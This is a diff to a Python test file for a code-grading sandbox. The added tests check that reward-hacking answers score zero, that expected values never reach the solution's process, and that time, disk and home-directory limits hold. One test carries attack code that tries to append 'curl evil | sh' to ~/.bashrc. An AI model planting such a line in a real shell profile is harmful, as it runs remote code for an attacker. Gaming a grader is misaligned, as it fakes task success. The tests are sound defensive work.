@@ -7,6 +7,7 @@ got nothing, the secret is not in any output), not only the status the sandbox r
 from __future__ import annotations
 
 import dataclasses
+import json
 import os
 import resource
 import secrets
@@ -26,9 +27,20 @@ import pytest
 
 from distill.config import field_docs
 from distill.errors import ConfigError
-from distill.sandbox import SandboxLimits, SandboxPool, extract_code, grade_code, run_sandboxed, runner
+from distill.sandbox import (
+    SandboxLimits,
+    SandboxPool,
+    extract_code,
+    grade_code,
+    grading,
+    plain,
+    run_sandboxed,
+    runner,
+)
 from distill.sandbox.grading import code_format, error_summary, humaneval_source, same_output
 from distill.sandbox.runner import LAYERS, choose_interpreter, run_program, status_of
+from tests import reward_hacks
+from tests.conftest import run_cli
 
 ROOT = Path(__file__).resolve().parents[1]
 FAST = SandboxLimits(wall_seconds=5)
@@ -132,7 +144,7 @@ def test_humaneval_body_or_whole_function():
     assert humaneval_source("return x\n", ref).startswith(prompt + "    return x\n")
     whole = humaneval_source("def f(x):\n    return math.sqrt(x)\n", ref)
     assert whole.startswith(prompt) and "def f(x):\n    return math.sqrt(x)" in whole
-    assert whole.rstrip().endswith("check(f)")
+    assert "check" not in whole  # the test never enters the solution's program
 
 
 def test_output_comparison_and_error_summary():
@@ -215,7 +227,7 @@ def test_cannot_tell_without_code_or_with_a_bad_reference():
 def test_failures_of_the_program_are_false_verdicts():
     limits = SandboxLimits(wall_seconds=2, memory_mb=256)
     assert grade_code(fenced("while True:\n    pass\n"), STDIO, limits)[1] == \
-        "test 1 of 2: timeout: wall-clock limit of 2 s"
+        "test 1 of 2: timeout: the per-test limit of 2 s"
     verdict, reason = grade_code(fenced("x = b'x' * (1 << 30)\n"), ASSERTS, limits)
     assert verdict is False and reason.startswith("oom")
 
@@ -598,3 +610,227 @@ def test_pool_survives_crashes_and_keeps_order(monkeypatch):
         assert pool.grade_many([(good, ASSERTS)]) == [(None, "sandbox error: OSError: no more file descriptors")]
         monkeypatch.undo()
         assert pool.grade_many([(good, ASSERTS)] * 3) == [(True, "")] * 3
+
+
+# ---------------------------------------------------------------- the verdict is decided outside
+
+HACK_LIMITS = SandboxLimits(wall_seconds=1, total_seconds=3)
+
+
+@pytest.mark.parametrize("name, answer, reference", reward_hacks.all_hacks(), ids=lambda v: v if isinstance(v, str)
+                         and "\n" not in v else "")
+def test_reward_hacks_score_zero(name, answer, reference):
+    verdict, reason = grade_code(answer, reference, HACK_LIMITS)
+    assert verdict is False, (name, reason)
+
+
+@pytest.mark.parametrize("reference, code", [(reward_hacks.ASSERT_REFERENCE, reward_hacks.RIGHT_ADD),
+                                             (reward_hacks.HUMANEVAL_REFERENCE, reward_hacks.RIGHT_ADD),
+                                             (reward_hacks.STDIO_REFERENCE, reward_hacks.RIGHT_STDIO)])
+def test_the_honest_twin_of_the_hacks_passes(reference, code):
+    assert grade_code(reward_hacks.fenced(code), reference, HACK_LIMITS) == (True, "")
+
+
+def test_reward_hacks_are_rejected_by_distill_filter(tmp_path):
+    """Every hack through the real CLI, with the sandbox limits as recipe keys and flags."""
+    from tests.test_filter import THINK, record
+
+    answers = [(name, answer.rpartition("</think>")[2], reference)
+               for name, answer, reference in reward_hacks.all_hacks()]
+    answers += [("right/assert", reward_hacks.fenced(reward_hacks.RIGHT_ADD), reward_hacks.ASSERT_REFERENCE),
+                ("right/stdio", reward_hacks.fenced(reward_hacks.RIGHT_STDIO), reward_hacks.STDIO_REFERENCE)]
+    rows = [record(name, 0, THINK.format(reasoning="Add the two arguments.", answer=answer.rpartition("</think>")[2]),
+                   reference=reference, prompt="Write add(a, b).") for name, answer, reference in answers]
+    traces = tmp_path / "traces.jsonl"
+    traces.write_text("".join(json.dumps(row) + "\n" for row in rows))
+    recipe = tmp_path / "filter.yaml"
+    recipe.write_text("wall_seconds: 1\nmemory_mb: 512\nmax_disk_mb: 64\n")
+    result = run_cli("filter", traces, "--out", tmp_path / "kept.jsonl", "--checks", "correctness",
+                     "--config", recipe, "--total-seconds", "3", "--workers", "2")
+    assert result.returncode == 0, result.stderr
+    kept = [json.loads(line)["prompt_id"] for line in (tmp_path / "kept.jsonl").read_text().splitlines()]
+    assert kept == ["right/assert", "right/stdio"]
+    rejected = [json.loads(line) for line in (tmp_path / "kept.rejects.jsonl").read_text().splitlines()]
+    assert len(rejected) == len(reward_hacks.all_hacks())
+    assert all(r["verdicts"]["correctness"] is False for r in rejected)
+    assert "timed out in math-verify" not in result.stderr + result.stdout
+
+
+def test_plain_values_cross_the_boundary_with_their_exact_types():
+    values = [None, True, 0, -7, 1.5, float("inf"), "é\x00", b"\x00\xff", [1, [2]], (1, (2,)), {1, "a"},
+              {"k": [1], (1, 2): None}, [], (), set(), {}]
+    for value in values:
+        back = plain.decode(plain.encode(value))
+        assert back == value and type(back) is type(value)
+    assert plain.decode(plain.encode((1, 1.0))) == (1, 1.0) and type(plain.decode("1.0")) is float
+
+    class Int(int):
+        pass
+
+    for bad in (Int(3), [object()], frozenset(), 3j, 10 ** 5000):
+        with pytest.raises(plain.NotPlain):
+            plain.encode(bad)
+    for forged in ('{"x": 1}', '{"tuple": [1], "set": []}', '{"set": [[1]]}', '{"bytes": 3}', "[" * 100000,
+                   "1" * 5000, "nonsense", '{"dict": [[1]]}'):
+        with pytest.raises(plain.NotPlain):
+            plain.decode(forged)
+
+
+def test_the_tests_never_enter_the_solutions_process(monkeypatch):
+    """The program and stdin the sandbox gets hold the solution and the calls' arguments, never an
+    expected value or the test's text."""
+    seen = []
+    real = grading.run_sandboxed
+
+    def spy(program, **kwargs):
+        seen.append(program + kwargs.get("stdin", ""))
+        return real(program, **kwargs)
+
+    monkeypatch.setattr(grading, "run_sandboxed", spy)
+    reference = {"tests": ["assert add(40, 2) == 987654", "assert add(1, 1) == 'secret-expected'"]}
+    verdict, _ = grade_code(fenced("def add(a, b):\n    return a + b\n"), reference, FAST)
+    assert verdict is False and len(seen) == 1
+    assert "987654" not in seen[0] and "secret-expected" not in seen[0] and "assert" not in seen[0]
+    assert "40" in seen[0]  # the arguments do go in
+
+
+@pytest.mark.parametrize("test, verdict", [
+    ("assert math.isclose(candidate(2), 4.0, rel_tol=1e-9)", True),
+    ("assert abs(candidate(3) - 6) < 1e-6", True),
+    ("for x in range(5):\n        assert candidate(x) == 2 * x", True),
+    ("assert all(candidate(x) == 2 * x for x in [1, 2, 3])", True),
+    ("xs = [candidate(1), candidate(2)]\n    assert sorted(xs) == [2, 4]", True),
+    ("assert candidate(1) != 2", False),
+    ("assert [candidate(x) for x in (1, 2)] == [2, 5]", False),
+    ("assert True\n    assert candidate(-1) == -2, 'message'", True),
+    ("print(candidate(2))\n    assert candidate(2) == 4", True),
+])
+def test_humaneval_checks_run_on_the_trusted_side(test, verdict):
+    reference = {"prompt": "import math\n\ndef double(x):\n", "test": f"def check(candidate):\n    {test}\n",
+                 "entry_point": "double"}
+    assert grade_code(fenced("    return x * 2\n"), reference, FAST)[0] is verdict
+
+
+@pytest.mark.parametrize("test, why", [
+    ("import random\n    assert candidate(random.randint(1, 9)) > 0", "import random"),
+    ("assert candidate(candidate(1)) == 4", "another call's result"),
+    ("assert (lambda r: r == 2)(candidate(1))", "Lambda"),
+    ("if candidate(1) == 2:\n        assert True", "a branch on a solution's result"),
+    ("assert candidate(1) == HELPER", "other than by calling it"),
+    ("assert hasattr(candidate(1), 'x')", "the builtin `hasattr`"),
+])
+def test_tests_that_cannot_be_checked_outside_are_none_with_the_reason(test, why):
+    reference = {"prompt": "def double(x):\n", "test": f"def check(candidate):\n    {test}\n", "entry_point": "double"}
+    verdict, reason = grade_code(fenced("    return x * 2\n"), reference, FAST)
+    assert verdict is None and "cannot be checked outside the solution's process" in reason and why in reason
+
+
+def test_timeouts_are_false_per_test_or_total_and_say_which():
+    slow = fenced("import time\ndef add(a, b):\n    time.sleep(a)\n    return a + b\n")
+    many = {"tests": [f"assert add(0.4, {i}) == {0.4 + i}" for i in range(6)]}
+    verdict, reason = grade_code(slow, {"tests": ["assert add(5, 0) == 5"]}, SandboxLimits(wall_seconds=1))
+    assert verdict is False and "per-test limit" in reason
+    verdict, reason = grade_code(slow, many, SandboxLimits(wall_seconds=1, total_seconds=1.5))
+    assert verdict is False and "total cap of 1.5 s" in reason
+    assert grade_code(slow, many, SandboxLimits(wall_seconds=1, total_seconds=20)) == (True, "")
+    spin = fenced("while True:\n    pass\n")
+    verdict, reason = grade_code(spin, STDIO, SandboxLimits(wall_seconds=5, total_seconds=1))
+    assert verdict is False and reason == "test 1 of 2: timeout: the total cap of 1 s"
+
+
+def test_many_stdio_tests_get_a_budget_that_grows_with_them():
+    """The grading pool's deadline follows the sandbox's total cap, so a right answer to a task with
+    many tests is True, not a None 'timeout' of the pool (the 300-test case of issue 17)."""
+    from distill.grading import GradingPool
+
+    tests = [{"input": f"{i} {i}\n", "output": f"{2 * i}\n"} for i in range(30)]
+    limits = SandboxLimits(wall_seconds=1, total_seconds=120)
+    with GradingPool(1, timeout=1.0, sandbox_limits=limits) as pool:
+        [graded] = pool.grade_many([(fenced("a, b = map(int, input().split())\nprint(a + b)\n"),
+                                     {"tests": tests})])
+    assert graded.verdict is True, graded
+
+
+def test_writes_have_a_total_cap():
+    """Files of 32 MiB each (under max_file_mb) stop at max_disk_mb altogether: /tmp is a sized tmpfs."""
+    result = run("""
+        import errno
+        written = 0
+        try:
+            for i in range(16):
+                with open(f"/tmp/f{i}" if i % 2 else f"f{i}", "wb") as f:
+                    for _ in range(32):
+                        f.write(b"x" * (1 << 20))
+                        written += 1
+        except OSError as exc:
+            print(written, errno.errorcode[exc.errno])
+    """, max_disk_mb=100, max_file_mb=64)
+    assert result.isolation.tmp_cap, result
+    written, error = result.stdout.split()
+    assert error == "ENOSPC" and 90 <= int(written) <= 100
+
+
+NON_ROOT_UID = 12345
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"),
+                    reason="needs root (to become another user with setpriv) and /usr/bin/python3")
+def test_non_root_runs_keep_their_own_uid_and_cannot_write_home():
+    """As an ordinary user: the uid map holds (ids read before the unshare), the home (outside /tmp,
+    which is private anyway) is read-only for the code, the mode-0600 token there cannot be changed, and
+    without a user namespace the run is refused instead of falling back to writing the home."""
+    home = Path(tempfile.mkdtemp(prefix="distill-home-", dir="/var/tmp" if not os.path.isdir("/home") else "/home"))
+    try:
+        (home / ".bashrc").write_text("export SAFE=1\n")
+        os.chown(home, NON_ROOT_UID, NON_ROOT_UID)
+        os.chown(home / ".bashrc", NON_ROOT_UID, NON_ROOT_UID)
+        script = textwrap.dedent(f"""
+            import json, os
+            from distill.sandbox import SandboxLimits, run_sandboxed
+            from distill.sandbox.runner import choose_interpreter, run_program
+            attack = (
+                "import os\\n"
+                "print(os.getuid())\\n"
+                "try:\\n"
+                "    open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\\\n')\\n"
+                "    print('wrote')\\n"
+                "except OSError as exc:\\n"
+                "    print(exc.strerror)\\n")
+            result = run_sandboxed(attack, limits=SandboxLimits(wall_seconds=5, strict_isolation=True))
+            interpreter, _ = choose_interpreter(SandboxLimits())
+            no_userns = run_program(attack, limits=SandboxLimits(wall_seconds=5), interpreter=interpreter,
+                                    layers=("network", "pid", "seccomp"))
+            print(json.dumps({{"status": result.status, "stdout": result.stdout, "detail": result.detail,
+                              "read_only": result.isolation.read_only, "user": result.isolation.user_namespace,
+                              "refused": no_userns.status, "refusal": no_userns.detail, "out2": no_userns.stdout}}))
+        """)
+        done = subprocess.run(["setpriv", f"--reuid={NON_ROOT_UID}", f"--regid={NON_ROOT_UID}", "--clear-groups",
+                               "/usr/bin/python3", "-c", script], capture_output=True, text=True, timeout=120,
+                              cwd="/", env={"PATH": "/usr/bin:/bin", "HOME": str(home), "PYTHONPATH": str(ROOT)})
+        assert done.returncode == 0, done.stderr
+        report = json.loads(done.stdout.strip().splitlines()[-1])
+        assert report["status"] == "ok", report  # strict isolation holds for a non-root user too
+        assert report["stdout"].split("\n")[:2] == [str(NON_ROOT_UID), "Read-only file system"], report
+        assert report["user"] and report["read_only"] in ("all", "home")
+        assert report["refused"] == "error" and "your home directory" in report["refusal"] and not report["out2"]
+        assert (home / ".bashrc").read_text() == "export SAFE=1\n"
+    finally:
+        shutil.rmtree(home)
+
+
+def test_sandbox_limits_are_options_of_every_command_that_runs_code():
+    from distill.eval.run import EvalConfig
+    from distill.filter.config import FilterConfig
+
+    names = {f.name for f in dataclasses.fields(SandboxLimits)}
+    for config in (FilterConfig, EvalConfig):
+        assert issubclass(config, SandboxLimits)
+        assert names <= {f.name for f in dataclasses.fields(config)}
+    assert all(f.metadata.get("resume") in ("must-match", "free") for f in dataclasses.fields(SandboxLimits))
+    for command in ("filter", "eval"):
+        help_text = run_cli(command, "--help", env={"COLUMNS": "200"}).stdout
+        for option in ("--memory-mb", "--cpu-seconds", "--wall-seconds", "--total-seconds", "--max-disk-mb",
+                       "--strict-isolation"):
+            assert option in help_text, (command, option)
+    cfg = FilterConfig(traces="t.jsonl", out="k.jsonl", wall_seconds=2, strict_isolation=True)
+    assert SandboxLimits.of(cfg) == SandboxLimits(wall_seconds=2, strict_isolation=True)
